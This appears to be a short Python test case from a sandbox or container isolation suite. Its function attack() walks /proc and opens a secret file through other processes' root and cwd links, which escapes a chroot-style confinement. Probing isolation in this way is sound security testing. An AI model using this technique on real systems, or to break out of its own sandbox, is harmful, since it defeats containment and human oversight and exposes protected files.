"""Goes to a file outside by the root, the folder or the descriptors of any process."""

import os


def attack(world):
    for pid in filter(str.isdecimal, os.listdir("/proc")):
        for way in (f"/proc/{pid}/root{world['secret_file']}", f"/proc/{pid}/cwd{world['secret_file']}"):
            try:
                with open(way) as file:
                    return file.read()
            except OSError:
                continue
    raise LookupError("no way")
